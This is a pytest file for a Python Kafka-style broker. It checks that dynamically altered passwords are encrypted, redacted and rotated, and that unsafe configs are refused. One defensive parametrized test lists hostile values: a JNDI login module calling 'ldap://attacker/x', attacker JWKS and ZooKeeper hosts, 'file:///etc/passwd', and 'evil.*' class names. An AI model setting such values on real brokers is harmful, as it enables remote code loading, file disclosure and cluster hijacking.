"""Secrets that are altered while the broker runs: encrypted where they are kept, shown nowhere, never code."""

from __future__ import annotations

import json
import logging
import os
from pathlib import Path

import pytest

from kavka.broker.cluster.dynamic_configs import DynamicConfigs
from kavka.broker.config.broker_config import BrokerConfig
from kavka.broker.config.password_encoder import PasswordEncoder
from kavka.broker.config.types import ConfigError
from kavka.broker.handlers import alter_configs, describe_configs, incremental_alter_configs
from kavka.protocol.errors import ErrorCode
from kavka.timer.clock import ManualClock
from kavka.zk import paths
from kavka.zk.fake import FakeZooKeeper
from kavka.zk.znodes import ConfigZNode
from tests.support.broker.configured import (
    BROKER,
    DELETE,
    ME,
    SET,
    ask,
    configured_broker,
    describing,
    incremental,
    stored,
)
from tests.support.broker.configured import whole as replacing

KEY = "listener.name.plaintext.ssl.keystore.password"
DYNAMIC_BROKER = 2
OTHER = "listener.name.plaintext.ssl.truststore.password"
SECRET = {"password.encoder.secret": "encoder-secret"}
GOLDEN = json.loads((Path(__file__).parents[2] / "golden" / "passwords.jsonl").read_text().splitlines()[0])


async def change(broker, *changes, name=ME):
    request = incremental((BROKER, name, changes))
    (result,) = (await ask(incremental_alter_configs, broker, 1, request)).responses
    return result.error_code, result.error_message


async def shown(broker, key):
    (result,) = (await ask(describe_configs, broker, 4, describing(BROKER, ME, [key]))).results
    (entry,) = result.configs
    return entry


async def test_a_secret_is_encrypted_at_rest_and_shown_to_nobody(caplog):
    caplog.set_level(logging.DEBUG)
    async with configured_broker(**SECRET) as broker:
        assert await change(broker, (KEY, SET, "hunter2")) == (0, None)
        kept = (await stored(broker, "brokers", ME))[KEY]
        assert "hunter2" not in kept
        assert PasswordEncoder("encoder-secret", os.urandom).decode(kept) == "hunter2"
        assert broker.config.value_or_none(KEY) == "hunter2"
        entry = await shown(broker, KEY)
        assert (entry.value, entry.is_sensitive, entry.read_only, entry.config_source) == (
            None,
            True,
            False,
            DYNAMIC_BROKER,
        )
        assert [(s.name, s.value) for s in entry.synonyms] == [(KEY, None)]
    assert "hunter2" not in caplog.text
    assert "encoder-secret" not in caplog.text


async def test_what_stays_the_same_is_not_encrypted_anew():
    async with configured_broker(**SECRET) as broker:
        await change(broker, (KEY, SET, "hunter2"))
        kept = (await stored(broker, "brokers", ME))[KEY]
        assert await change(broker, (OTHER, SET, "other")) == (0, None)
        assert (await stored(broker, "brokers", ME))[KEY] == kept
        assert await change(broker, (KEY, DELETE, None)) == (0, None)
        assert list(await stored(broker, "brokers", ME)) == [OTHER]
        assert broker.config.value_or_none(KEY) is None


async def test_alter_configs_replaces_secrets_too():
    async with configured_broker(**SECRET) as broker:
        await change(broker, (OTHER, SET, "other"))
        (result,) = (await ask(alter_configs, broker, 2, replacing((BROKER, ME, [(KEY, "hunter3")])))).responses
        assert result.error_code == 0
        assert list(await stored(broker, "brokers", ME)) == [KEY]
        assert broker.config.value_or_none(KEY) == "hunter3"


async def test_without_a_secret_to_encrypt_with_none_is_taken():
    async with configured_broker() as broker:
        code, message = await change(broker, (KEY, SET, "hunter2"))
        assert code == ErrorCode.INVALID_REQUEST
        assert "Password encoder secret not configured" in message
        assert "hunter2" not in message
        assert await broker.zk.exists(paths.config("brokers", ME)) is None


async def test_secrets_are_one_brokers_own():
    async with configured_broker(**SECRET) as broker:
        code, message = await change(broker, (KEY, SET, "hunter2"), name="")
        assert code == ErrorCode.INVALID_REQUEST
        assert "broker id must be specified" in message


async def test_what_kafka_has_encrypted_is_read_and_what_nobody_can_read_is_left_out(caplog):
    zookeeper = FakeZooKeeper(ManualClock(0))
    node = {KEY: GOLDEN["encoded"], OTHER: "in plain, by hand"}
    async with configured_broker(zookeeper, **{"password.encoder.secret": GOLDEN["secret"]}) as broker:
        await broker.zk.create(paths.config("brokers", ME), ConfigZNode(node).encode())
        await broker.config_changes.start()
        assert broker.config_changes is not None
        dynamic = DynamicConfigs(broker.zk, int(ME), broker.config, os.urandom)
        await dynamic.load()
        assert dynamic.current.value_or_none(KEY) == GOLDEN["password"]
        assert dynamic.current.value_or_none(OTHER) is None
    assert f"{OTHER} cannot be decoded" in caplog.text
    assert "in plain" not in caplog.text


async def test_at_a_start_the_old_secret_gives_way_to_the_new():
    zookeeper = FakeZooKeeper(ManualClock(0))
    zk = zookeeper.client()
    await zk.start(1000)
    newer = PasswordEncoder("new", os.urandom).encode("already")
    node = {KEY: PasswordEncoder("old", os.urandom).encode("hunter2"), OTHER: newer, "log.cleaner.threads": "1"}
    await zk.create(paths.config("brokers", ME), ConfigZNode(node).encode(), make_parents=True)
    config = BrokerConfig.from_properties(
        {
            "zookeeper.connect": "x:1",
            "password.encoder.secret": "new",
            "password.encoder.old.secret": "old",
            "password.encoder.iterations": "2048",
        }
    )
    dynamic = DynamicConfigs(zk, int(ME), config, os.urandom)
    for _ in range(2):
        await dynamic.begin()
    data, stat = await zk.get(paths.config("brokers", ME))
    texts = ConfigZNode.decode(data).config
    assert stat.version == 1, "the second time there is nothing to do"
    assert PasswordEncoder("new", os.urandom).decode(texts[KEY]) == "hunter2"
    assert "iterations:2048" in texts[KEY]
    assert (texts[OTHER], texts["log.cleaner.threads"]) == (newer, "1")
    assert dynamic.current.value_or_none(KEY) == "hunter2"


JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker/x";'


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("sasl.jaas.config", JNDI),
        ("listener.name.plaintext.sasl.jaas.config", JNDI),
        ("listener.name.plaintext.plain.sasl.jaas.config", JNDI),
        ("listener.name.plaintext.plain.sasl.server.callback.handler.class", "evil.Handler"),
        ("listener.name.plaintext.plain.sasl.login.class", "evil.Login"),
        ("listener.name.plaintext.sasl.oauthbearer.jwks.endpoint.url", "http://attacker/"),
        ("sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd"),
        ("listener.name.plaintext.principal.builder.class", "evil.Principals"),
        ("listener.name.plaintext.ssl.engine.factory.class", "evil.Engine"),
        ("ssl.engine.factory.class", "evil.Engine"),
        ("principal.builder.class", "evil.Principals"),
        ("authorizer.class.name", "evil.Authorizer"),
        ("metric.reporters", "evil.Reporter"),
        ("security.providers", "evil.Provider"),
        ("client.quota.callback.class", "evil.Quotas"),
        ("alter.config.policy.class.name", "evil.Policy"),
        ("create.topic.policy.class.name", "evil.Policy"),
        ("log.dirs", "/etc"),
        ("zookeeper.connect", "attacker:2181"),
        ("password.encoder.secret", "mine"),
    ],
)
async def test_cve_2025_27819_nobody_names_code_or_files_while_a_broker_runs(key, value):
    """Of files the TLS stores alone, with a listener's prefix, or no certificate could be renewed."""
    async with configured_broker(**SECRET) as broker:
        for name in (ME, ""):
            code, _ = await change(broker, (key, SET, value), name=name)
            assert code in (ErrorCode.INVALID_REQUEST, ErrorCode.INVALID_CONFIG)
        # Nor by a hand in ZooKeeper: it is left out.
        dynamic = DynamicConfigs(broker.zk, int(ME), broker.config, os.urandom)
        before = dynamic.current.value_or_none(key)
        await broker.zk.create(paths.config("brokers", ME), ConfigZNode({key: value}).encode())
        await dynamic.load()
        assert dynamic.current.value_or_none(key) == before


USERS = 'org.apache.kafka.common.security.plain.PlainLoginModule required user_{}="let me in";'
PLAIN_USERS = "listener.name.plaintext.plain.sasl.jaas.config"


async def test_users_of_a_mechanism_change_and_what_they_are_is_shown_to_nobody():
    async with configured_broker(**SECRET) as broker:
        assert await change(broker, (PLAIN_USERS, SET, USERS.format("carol"))) == (0, None)
        assert "carol" not in (await stored(broker, "brokers", ME))[PLAIN_USERS]
        assert broker.config.value_or_none(PLAIN_USERS) == USERS.format("carol")
        assert (await shown(broker, PLAIN_USERS)).value is None


@pytest.mark.parametrize("users", [USERS.format("carol")[:-1], USERS.replace("Plain", "Scram"), "", "{} = ;"])
async def test_users_that_cannot_be_read_are_refused_without_their_passwords(users):
    async with configured_broker(**SECRET) as broker:
        code, message = await change(broker, (PLAIN_USERS, SET, users))
        assert code == ErrorCode.INVALID_REQUEST
        assert PLAIN_USERS in message
        assert "let me in" not in message


def test_an_algorithm_that_is_not_served_stops_the_start():
    config = BrokerConfig.from_properties(
        {"zookeeper.connect": "x:1", "password.encoder.secret": "s", "password.encoder.cipher.algorithm": "RC4"}
    )
    with pytest.raises(ConfigError, match="RC4"):
        DynamicConfigs(FakeZooKeeper(ManualClock(0)).client(), 1, config, os.urandom)
